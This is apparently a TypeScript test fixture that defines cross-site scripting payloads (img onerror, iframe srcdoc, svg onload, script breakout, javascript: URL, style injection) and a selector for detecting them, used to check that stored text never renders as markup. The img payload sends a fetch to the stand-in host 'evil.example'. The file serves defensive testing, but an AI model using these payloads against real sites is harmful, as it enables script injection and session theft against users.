/**
 * Script payloads of the kinds that turn stored text into running code when some view treats it as HTML. Each one,
 * if it ever ran, sets `window.__xss` (or the parent's) and creates an element the browser test looks for, and
 * tries to send the session away to a foreign host, which the request listener would see.
 */
export const XSS_FLAG = '__xss';
export const FOREIGN_HOST = 'evil.example';

export const PAYLOADS = {
  img: `<img id="xss-img" src=x onerror="window.${XSS_FLAG}='img';fetch('http://${FOREIGN_HOST}/?s='+sessionStorage.length)">`,
  iframe: `<iframe id="xss-iframe" srcdoc="<script>parent.${XSS_FLAG}='iframe'</script>"></iframe>`,
  svg: `<svg id="xss-svg" onload="window.${XSS_FLAG}='svg'"></svg>`,
  breakout: `"><script id="xss-script">window.${XSS_FLAG}='script'</script><b id="xss-b">`,
  javascriptUrl: `javascript:window.${XSS_FLAG}='url'//<a id="xss-a" href="javascript:window.${XSS_FLAG}='a'">点击</a>`,
  style: `<style id="xss-style">body{background:url(http://${FOREIGN_HOST}/css)}</style><div id="xss-div" style="position:fixed;inset:0">`,
} as const;

export type PayloadKind = keyof typeof PAYLOADS;
export const PAYLOAD_KINDS = Object.keys(PAYLOADS) as PayloadKind[];

/** A payload with a short visible tag in front, so a screenshot and a text search can tell them apart. */
export const labelled = (tag: string, kind: PayloadKind): string => `${tag}${PAYLOADS[kind]}`;

/** Elements any of the payloads would create, had it been parsed as markup. */
export const PAYLOAD_ELEMENTS =
  '[id^="xss-"], img[src="x"], iframe, svg[onload], [onerror], [onload], script:not([src]), a[href^="javascript:"], style#xss-style';
